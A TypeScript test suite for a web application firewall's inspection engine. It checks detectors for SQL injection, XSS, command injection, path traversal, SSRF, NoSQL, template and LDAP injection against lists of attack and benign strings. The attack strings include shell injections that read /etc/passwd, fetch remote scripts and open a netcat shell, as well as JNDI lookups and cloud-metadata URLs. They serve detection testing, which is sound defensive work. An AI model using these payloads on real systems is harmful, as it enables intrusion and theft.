import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { detectCmdi } from '../../../src/controls/inspection/cmdi.ts';
import { DETECTORS, Engine } from '../../../src/controls/inspection/engine.ts';
import { detectLfi, detectRestrictedPath, detectRestrictedUpload } from '../../../src/controls/inspection/lfi.ts';
import { detectLdap, detectNosql, detectSsti } from '../../../src/controls/inspection/misc.ts';
import { htmlEntityDecode, normalize, percentDecode } from '../../../src/controls/inspection/normalize.ts';
import { detectSqli, fingerprint } from '../../../src/controls/inspection/sqli.ts';
import { classifyHost, detectSsrf, parseIPv4 } from '../../../src/controls/inspection/ssrf.ts';
import { detectXss } from '../../../src/controls/inspection/xss.ts';
import { settle } from '../../helpers/settle.ts';

const n = normalize;

describe('normalisation', () => {
  it('percent-decodes repeatedly (double and triple encoding)', () => {
    assert.equal(n('%253Cscript%253E'), '<script>');
    assert.equal(n('%25253Cb%25253E'), '<b>');
  });
  it('decodes HTML entities, numeric ones without semicolons too', () => {
    assert.equal(htmlEntityDecode('&lt;a&gt; &#106;&#x61; &#106a &colon;'), '<a> ja ja :');
  });
  it('applies NFKC, removes null bytes and lower-cases', () => {
    assert.equal(n('＜SCRIPT＞'), '<script>');
    assert.equal(n('ab%00cd'), 'abcd');
  });
  it('rejects malformed UTF-8 and overlong forms in strict mode', () => {
    assert.equal(percentDecode('%c0%af', false, true), null);
    assert.equal(percentDecode('%e0%80%af', false, true), null);
    assert.equal(percentDecode('%ff', false, true), null);
    assert.equal(percentDecode('caf%c3%a9', false, true), 'café');
    assert.equal(percentDecode('a+b', true, true), 'a b');
  });
});

describe('sqli', () => {
  it('fingerprints like libinjection', () => {
    assert.equal(fingerprint("1' or '1'='1", "'").fp, 's&sos');
    assert.equal(fingerprint('1 union select password from users', '').fp, '1UEnkn');
    assert.equal(fingerprint('1 /*!50000union*/ select 1', '').fp, '1UE1');
  });
  for (const attack of [
    "1' or '1'='1",
    '1 union select password from users',
    "admin'--",
    '1; drop table users',
    '1 or 1=1',
    "1' and sleep(5)#",
    '-1 union/**/select 1,2,3',
    "') or ('a'='a",
    'x" or "x"="x',
    '1 and 1=1',
    "' union all select null--",
    'select * from users',
    '@@version',
    'x from information_schema.tables',
  ]) {
    it(`detects ${JSON.stringify(attack)}`, () => assert.notEqual(detectSqli(n(attack)), undefined));
  }
  for (const benign of [
    "O'Reilly and friends",
    'hello world',
    'select the option from the list',
    "it's 5 o'clock",
    'rock and roll',
    'john.smith@example.com',
    'Delete my account',
    'price: 10-20 EUR',
    'a = b',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectSqli(n(benign)), undefined));
  }
  // token-sequence evidence (paranoia level 1)
  const pl1: [string, string][] = [
    ['concat(0x7e,version())', 'function:concat'],
    ['x; select pg_sleep(5)', 'attack-function:pg_sleep'],
    ['1;drop table users', 'plain:;[(]*E'],
    ['DROP/*x*/TABLE users', 'plain:^[(]*Ek[n1v(]'],
    ['id=1 /*!50000union*/ select 1', 'plain:U[(]*E'],
    ['drop/**/sampletable', 'comment-obfuscation'],
    ["'{\"b\":2}'::jsonb @> '{}'", 'cast'],
    ["admin'; waitfor delay '0:0:5'--", "':^s[)]*;[EkBnv]"],
    ['1 having count(*) > 1', 'having'],
    ['insert into users values (1)', 'plain:^[(]*Ek[n1v(]'],
    ['x insert into users values (1)', 'insert-into'],
    ['information_schema', 'catalogue:information_schema'],
    ['1.e(ascii 1.e(substring(1.e(select password from users limit 1', 'scientific-notation'],
    [') like (', 'parenthesis-breakout'],
  ];
  for (const [attack, rule] of pl1) {
    it(`detects ${JSON.stringify(attack)} (${rule})`, () => {
      const h = detectSqli(n(attack));
      assert.equal(h?.rule, rule);
      assert.equal(h?.paranoia, 1);
    });
  }
  // prose and API values with SQL words, function names before a spaced parenthesis, numbers with or
  for (const benign of [
    'I want 2 or 3 items',
    'year 2024 or 2025',
    'true or false',
    'Please select a size and a colour',
    'Union Station, Chicago',
    'drop me a line',
    'Update: shipping is free',
    'Delete (Trashcan)',
    'order by date or by price',
    'lower (unnamed) rank',
    'Left (WA, RR), south for ½ mile',
    'the interior angles add up to 180 degrees (same color)',
    'maximise space (ideal for art)',
    'we will create a table for you',
    'Set @home = true',
    'between 1 and 5',
    'C# | F# | Go',
    'Exec summary: profits up',
    'convert to pdf',
    'users/123/orders',
    '{"filter": "a,b"}',
    'alias: Johnny',
    '4294967296',
  ]) {
    it(`passes at paranoia level 1: ${JSON.stringify(benign)}`, () => {
      const h = detectSqli(n(benign));
      assert.ok(h === undefined || h.paranoia > 1, `${h?.rule}`);
    });
  }
});

describe('xss', () => {
  for (const attack of [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    '<svg/onload=alert(1)>',
    '<a href="javascript:void(0)">x</a>',
    '<iframe src=//evil>',
    '<x onpointerenter=alert(1)>',
    'data:text/html;base64,PHNjcmlwdD4=',
    '<div style="background:url(javascript:alert(1))">',
  ]) {
    it(`detects ${JSON.stringify(attack)}`, () => assert.notEqual(detectXss(n(attack)), undefined));
  }
  for (const benign of ['a < b and c > d', '<b>bold</b>', 'I read it on line 5', 'description of javascript frameworks', 'x<3']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectXss(n(benign)), undefined));
  }
  it('names the rule', () => assert.equal(detectXss(n('<img src=x onerror=alert(1)>'))?.rule, 'event-handler:onerror'));
  const pl1: [string, string][] = [
    ['document.body.appendChild(document.createElement("h1"))', 'script-sink'],
    ['x=window.location', 'script-sink'],
    ['document/*foo*/./*bar*/cookie=1', 'script-sink'],
    ['self["alert"](1)', 'script-sink'],
    ['[][(![]+[])[+[]]]', 'jsfuck'],
    ['<f o r m action=x>', 'spaced-tag'],
    ['+ADw-script+AD4-alert(1)', 'tag:script'],
    ['<a href=x>y</a><base href="//evil/">', 'tag:base'],
    ['<x xmlns:xi="http://www.w3.org/2001/XInclude">', 'xml-namespace:xmlns:xi'],
    ['style=-moz-binding:url(http://x/a.xml#x)', 'css-script'],
    ['ja&amp;tab;vascript:alert(1)', 'javascript-url'],
  ];
  for (const [attack, rule] of pl1) {
    it(`detects ${JSON.stringify(attack)} (${rule})`, () => {
      const h = detectXss(n(attack));
      assert.equal(h?.rule, rule);
      assert.equal(h?.paranoia, 1);
    });
  }
  // HTML-ish Markdown and prose
  for (const benign of [
    'Hello <b>world</b>',
    'x < y and y > z',
    'window.open in new tab',
    'document.pdf',
    'javascript-manual/document.cookie',
    'Set an alert (daily)',
    'Are you sure? (y/n)',
    '**bold** and _italic_ [link](https://example.com)',
    'email me at a@b.com',
    '<p>Paragraph</p><ul><li>item</li></ul>',
  ]) {
    it(`passes at paranoia level 1: ${JSON.stringify(benign)}`, () => {
      const h = detectXss(n(benign));
      assert.ok(h === undefined || h.paranoia > 1, `${h?.rule}`);
    });
  }
});

describe('command injection', () => {
  for (const attack of [
    ';cat /etc/passwd',
    '| id',
    '$(whoami)',
    '`uname -a`',
    '127.0.0.1 && curl http://x',
    "x;c'a't /etc/passwd",
    'a|$u wget test',
    '() { :;}; /bin/bash -c id',
    'for /f %a in (x) do y',
    'x;w\\ho\\am\\i',
  ]) {
    it(`detects ${JSON.stringify(attack)}`, () => assert.notEqual(detectCmdi(n(attack)), undefined));
  }
  for (const benign of ['I like cats; cat food is great', 'salt & pepper', 'tom & jerry; the movie', 'C# | F#']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectCmdi(n(benign)), undefined));
  }
  const pl1: [string, string][] = [
    ['cat /etc/pa[s]swd', 'glob-path:/etc/passwd'],
    ['/???/b??h -c id', 'glob-path:/bin/bash'],
    ['{,ifconfig}', 'brace-expansion:ifconfig'],
    ['cu$@rl google.com', 'evasion:command-line:curl'],
    ['pi``ng 127.0.0.1', 'evasion:command-line:ping'],
    ['whoami', 'command-line:whoami'],
    ['nohup who', 'command-line:nohup-who'],
    ['ansible-playbook site.yml', 'command-line:ansible-playbook'],
    ['IF EXIST data.xls Echo found', 'windows-if'],
    ['FOR /F "tokens=1,3 delims=," %%G IN (weather.txt) DO @echo %%G', 'windows-for'],
    ['Invoke-WebRequest http://x/a.ps1', 'powershell'],
    ['alias x=curl', 'alias'],
    ['$((1+1))', 'arithmetic-expansion'],
    ['x\r\nMAIL FROM:<a@b.c>', 'smtp-command'],
    ['$SHELL -c "echo hi"', 'shell:$shell'],
    ['<!--#exec cmd="ls" -->', 'ssi'],
  ];
  for (const [attack, rule] of pl1) {
    it(`detects ${JSON.stringify(attack)} (${rule})`, () => {
      const h = detectCmdi(n(attack.replace('\\r\\n', '\r\n')));
      assert.equal(h?.rule, rule);
      assert.equal(h?.paranoia, 1);
    });
  }
  // shell-like product names, Markdown code spans, prose around separators
  for (const benign of [
    'python',
    'curl',
    'kubectl',
    'ls',
    'bash shell tips',
    'tea & time',
    'News | Time',
    'Home | About | Contact',
    'who is there',
    'find my order',
    'echo chamber',
    'ping me later',
    'time to go',
    'the ping-pong table',
    'Q&A',
    'R&D; marketing',
    'a=1&b=2',
    'Use `npm install` to install',
    'run `ls -la` to list',
    'cost: $5 (incl. tax)',
    'for each item in (list)',
    'C:\\Users\\me\\file.txt',
    '/home/user/docs/report.pdf',
    '{"tags": ["python", "curl"]}',
    'Version 2.0 - now with more',
    '$[0].name',
    'alias: Johnny',
  ]) {
    it(`passes at paranoia level 1: ${JSON.stringify(benign)}`, () => {
      const h = detectCmdi(n(benign));
      assert.ok(h === undefined || h.paranoia > 1, `${h?.rule}`);
    });
  }
});

describe('path traversal / LFI', () => {
  for (const attack of [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '....//....//etc/hosts',
    '/proc/self/environ',
    'php://filter/resource=index.php',
    '%2e%2e%2f%2e%2e%2fetc',
  ]) {
    it(`detects ${JSON.stringify(attack)}`, () => assert.notEqual(detectLfi(n(attack)), undefined));
  }
  for (const benign of ['wait... / ok', 'v1.2.3', 'see page 2.', 'environment variables']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectLfi(n(benign)), undefined));
  }
  it('detects hex-spelt traversal and system directories at the end of a value', () => {
    assert.equal(detectLfi(n('0x5c0x2e.%00/'))?.rule, 'encoded-traversal');
    assert.equal(detectLfi(n('/sys/class'))?.rule, 'sensitive-file:sys/class/');
  });
  // file paths in JSON values, dotted names
  for (const benign of [
    'docs/readme.md',
    'src/index.ts',
    'https://example.com/files/report.pdf',
    'C:\\Users\\me\\file.txt',
    'config.json',
    'v2..v3',
    'team.environment',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectLfi(n(benign)), undefined));
  }
  it('flags restricted request paths but not /.well-known', () => {
    assert.equal(detectRestrictedPath('/.git/config')?.rule, 'dot-file');
    assert.equal(detectRestrictedPath('/backup.sql.zip')?.rule, 'restricted-extension');
    assert.equal(detectRestrictedPath('/.well-known/openid-configuration'), undefined);
    assert.equal(detectRestrictedPath('/users/42'), undefined);
  });
});

describe('ssrf', () => {
  it('parses IPv4 in every WHATWG spelling', () => {
    assert.deepEqual(parseIPv4('2130706433'), { addr: 0x7f000001, form: 'decimal' });
    assert.deepEqual(parseIPv4('0x7f000001'), { addr: 0x7f000001, form: 'hex' });
    assert.deepEqual(parseIPv4('0177.0.0.1'), { addr: 0x7f000001, form: 'octal' });
    assert.deepEqual(parseIPv4('127.1'), { addr: 0x7f000001, form: 'short' });
    assert.equal(parseIPv4('example.com'), undefined);
  });
  const internal: [string, string][] = [
    ['http://127.0.0.1/', 'internal-host:loopback'],
    ['http://2130706433/', 'internal-host:loopback-decimal'],
    ['http://0x7f000001/', 'internal-host:loopback-hex'],
    ['http://0177.0.0.1/', 'internal-host:loopback-octal'],
    ['http://[::1]/', 'internal-host:loopback'],
    ['http://[::ffff:127.0.0.1]/', 'internal-host:ipv4-mapped-loopback'],
    ['http://[::ffff:7f00:1]/', 'internal-host:ipv4-mapped-loopback'],
    ['http://169.254.169.254/latest/meta-data/', 'internal-host:cloud-metadata'],
    ['http://metadata.google.internal/', 'internal-host:cloud-metadata'],
    ['https://user:pw@10.1.2.3:8443/x', 'internal-host:private'],
    ['http://[fe80::1%25eth0]/', 'internal-host:link-local'],
    ['gopher://example.com:70/_x', 'scheme:gopher'],
    ['http://localhost:8080/admin', 'internal-host:loopback'],
  ];
  for (const [url, rule] of internal) it(`detects ${url}`, () => assert.equal(detectSsrf(n(url))?.rule, rule));
  it('passes public hosts', () => {
    assert.equal(detectSsrf(n('https://example.com/a?b=//c')), undefined);
    assert.equal(detectSsrf(n('http://8.8.8.8/')), undefined);
    assert.equal(classifyHost('[2001:db8::1]'), undefined);
  });
});

describe('nosql, ssti, ldap', () => {
  it('nosql operators in names and smuggled objects', () => {
    assert.equal(detectNosql('$ne', true)?.rule, 'operator:$ne');
    assert.equal(detectNosql('user[$regex]', true)?.rule, 'operator:$regex');
    assert.equal(detectNosql('{"$gt": ""}', false)?.rule, 'operator:$gt');
    assert.equal(detectNosql('price in $', false), undefined);
  });
  it('template injection', () => {
    assert.equal(detectSsti('{{7*7}}')?.rule, 'template:{{');
    assert.equal(detectSsti('${jndi:ldap://x/a}')?.rule, 'jndi-lookup');
    assert.equal(detectSsti('${t(java.lang.runtime).getruntime()}')?.rule, 'dollar-expression');
    assert.equal(detectSsti('<%= 7*7 %>')?.rule, 'template:<%');
    assert.equal(detectSsti('hello {{ name }}'), undefined);
    assert.equal(detectSsti('costs ${price}'), undefined);
  });
  it('ldap filter injection', () => {
    assert.equal(detectLdap('*)(uid=*))(|(uid=*')?.rule, 'filter-breakout');
    assert.equal(detectLdap('admin)(|(password=*)')?.rule, 'filter-operator');
    assert.equal(detectLdap('(see above)(below)'), undefined);
  });
});

describe('paranoia levels 2 and 3', () => {
  /** Detector hit of `f` on the normalised value, as `rule@level`, or `pass`. */
  const at = (f: (s: string) => { rule: string; paranoia: number } | undefined, v: string): string => {
    const h = f(n(v));
    return h === undefined ? 'pass' : `${h.rule}@${h.paranoia}`;
  };
  const sqli: [string, string][] = [
    ['in (0,1)', 'in-list@2'],
    ['execute php', 'exec@2'],
    ['Rand (', 'function-probe:rand@2'],
    ['version=(', 'function-probe:version@2'],
    ["something LIKE '", 'operator-quote@2'],
    ['or 88', 'logic-probe@2'],
    ['"a" xor "b"', 'operator:xor@2'],
    ["and '5'orig", 'logic-string@2'],
    ["id'not glob-id--", "':operator-comment@2"],
    ["\\'and", "':backslash-breakout@2"],
    ["admin@x.io\\' and( likelihood (id,.0));'", "':backslash-breakout@2"],
    ['` REGEXP ', '`:operator@2'],
    [') when 234 then', 'case-when@2'],
    [') as User from', 'alias-from@2'],
    [';SET @OLD_SQL_MODE', 'set-variable@2'],
    ['"2562*23', 'fragment:quote-number@2'],
    ['`bla`', 'fragment:back-quoted-name@2'],
    ['order by', 'fragment:clause:order by@2'],
    ['<=>', 'fragment:operator@2'],
    ['/3 and(', 'fragment:slash-logic@2'],
    ['var= @.= ( SELECT', 'open-expression@2'],
    ['42 like 42', 'operator:like@2'],
    ['" UNION A', 'fragment:punctuation-verb@2'],
    ["' * from = 1 or '9", "':quote-clause@2"],
    ['9999 or /* +optimizer hint */ true', 'comment-obfuscation@2'],
    ['from `db`.`t` limit', 'from-quoted-name@2'],
    ['day. (', 'function-probe:day@2'],
    ['Tom and', 'trailing-logic@3'],
    ['11!=12', 'fragment:tautology@2'],
  ];
  for (const [attack, want] of sqli) it(`sqli ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectSqli, attack), want));
  const xss: [string, string][] = [
    ['<noscript#', 'tag-prefix:noscript@2'],
    ['import { sayHi, sayBye } from "./greeting.js";', 'js-import@2'],
    ['-->', 'comment-close@2'],
    ['document /*foo*/ .     cookie', 'script-sink@1'],
    ['x=k:v;z:url(javascript', 'css-script@1'],
    ['$<d i a l o g', 'spaced-tag@1'],
    ['\u00bcscript\u00bealert(1)\u00bc/script\u00be', 'tag:script@1'],
    ['foo!ENTITY % bar SYSTEM', 'markup-declaration@1'],
    ['  onwebkitplaybacktargetavailabilitychanged= ', 'attribute-breakout@2'],
  ];
  for (const [attack, want] of xss) it(`xss ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectXss, attack), want));
  const cmdi: [string, string][] = [
    ['${x#{}}', 'parameter-expansion@2'],
    ['/[e///]tc', 'glob-path:/etc@2'],
    ['/*/*', 'glob-path:/etc/passwd@2'],
    [';top Something else', 'leading-separator:top@2'],
    [';at 2:00 "echo test"', 'leading-separator:at@2'],
    ['ansible all -m ping', 'command-line:ansible@2'],
    ['~+', 'tilde-expansion@2'],
    ['~-1', 'tilde-expansion@2'],
    ['~0', 'tilde-expansion@2'],
    ['!-1!-2', 'history-expansion@2'],
    ['\\ls', 'escaped-command:ls@2'],
    ['>/tmp/curl', 'redirection@2'],
    [';\\n.shell nc 10.0.0.1 6666 -e sh', 'sqlite-dot-command@2'],
    ['if (AA) == (AA) echo same', 'windows-if@1'],
    ['bin/chef', 'shell-binary:chef@1'],
    ['x&bcdboot/r file.txt', 'command:bcdboot@1'],
    ['cat+/ET*/*WD', 'glob-path:/etc/passwd@1'],
    ["1;.\\'shell whoami", 'sqlite-dot-command@2'],
  ];
  for (const [attack, want] of cmdi) it(`cmdi ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectCmdi, attack), want));
  it('restricted upload names (X-Filename)', () => {
    assert.equal(detectRestrictedUpload('settings.php')?.paranoia, 1);
    assert.equal(detectRestrictedUpload('.boto')?.rule, 'restricted-upload:dot-file');
    assert.equal(detectRestrictedUpload('config.yml ')?.paranoia, 2);
    assert.equal(detectRestrictedUpload('wp-config_php.txt')?.paranoia, 2);
    assert.equal(detectRestrictedUpload('acpi')?.paranoia, 2);
    for (const ok of ['report.pdf', 'photo 1.jpg', 'settings-icon.png', 'config', 'invoice-2024.json', 'C:\\Users\\me\\notes.txt'])
      assert.equal(detectRestrictedUpload(ok.toLowerCase()), undefined, ok);
  });
  it('statement keywords glued into one word count from paranoia level 2', () => {
    for (const [pl, want] of [
      [1, 0],
      [2, 1],
    ] as const) {
      const scan = new Engine({ paranoia: pl, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
      scan.inspect('Xunionselectfrom', false, () => 'query:test');
      assert.equal(scan.hits.length, want);
    }
  });
  it('a DOM global as a parameter or cookie name counts from paranoia level 2', () => {
    for (const [pl, want] of [
      [1, 0],
      [2, 1],
    ] as const) {
      const scan = new Engine({ paranoia: pl, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
      scan.inspect('window.location', true, () => 'cookie:window.location');
      assert.equal(scan.hits.length, want);
    }
  });
  // what the new level-2 rules must leave alone: prose, code-ish product names, Markdown, JSON with file paths, maths
  // (Markdown code spans holding a command, `` `make` ``, and `; set` count at level 2 by design: see 'command injection')
  const benign = [
    'Published year (2024)',
    'Die "Union von Europa"',
    'page 1 is not 2 pages',
    'copy from `src` to `dst`',
    '"! Yes',
    'he was on holiday= yes',
    'Happy new year :(',
    'and 2 others',
    'I said or 5 things',
    'xor gate tutorial',
    'use a xor b',
    'it sounds like "fun"',
    "O\\'Reilly and friends",
    'Execute the plan today, then report',
    'a --> b',
    'step 1 --> step 2',
    'import data from a CSV file',
    'Upload the document/contract.pdf',
    'see document.pdf, 1/4 done',
    'Node.js, Vue.js and C# | F#',
    '**Note**: the `--force` flag',
    '{"path": "/usr/local/lib/libfoo.so", "dir": "src/app"}',
    '/api/*',
    '/*',
    '~5 items',
    'about ~20 minutes',
    'x ~ y',
    'wow!!',
    'hello ${name}',
    'price: $5; total: $10',
    'Ready; steady; go',
    'red;blue;green',
    '5 - 3 = 2, a != b',
    '1/2 + 3/4 = 5/4',
    'f(x) = x^2 + 3x (for x > 0)',
    'C:\\Users\\me\\file.txt',
    '>= 5 items',
  ];
  for (const v of benign) {
    it(`passes at paranoia level 2: ${JSON.stringify(v)}`, () => {
      const scan = new Engine({ paranoia: 2, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
      scan.inspect(v, false, () => 'body:/x');
      assert.deepEqual(
        scan.hits.map((h) => `${h.detector}:${h.rule}`),
        [],
      );
    });
  }
});

describe('linear time on pathological inputs', () => {
  const big = 100 * 1024;
  const inputs = [
    "'".repeat(big),
    '('.repeat(big),
    '<'.repeat(big),
    '[{'.repeat(big / 2),
    '<a x="'.repeat(big / 6),
    ';'.repeat(big),
    '${'.repeat(big / 2),
    '{{'.repeat(big / 2),
    '..'.repeat(big / 2),
    'on'.repeat(big / 2),
    ' on'.repeat(big / 3),
    '//'.repeat(big / 2),
    ')('.repeat(big / 2),
    '%25'.repeat(big / 3),
    '&#'.repeat(big / 2),
    '/*'.repeat(big / 2),
    '; '.repeat(big / 2),
    "\\'".repeat(big / 2),
    'url('.repeat(big / 4),
    '!-'.repeat(big / 2),
    ' (('.repeat(big / 3),
    'a'.repeat(big),
  ];
  for (const input of inputs) {
    it(`finishes on 100 KB of ${JSON.stringify(input.slice(0, 6))}…`, { timeout: 10_000 }, async () => {
      const s = n(input);
      for (const f of [detectSqli, detectXss, detectCmdi, detectLfi, detectSsrf, detectSsti, detectLdap]) {
        f(s);
        await settle();
      }
      detectNosql(s, false);
      await settle();
    });
  }
});
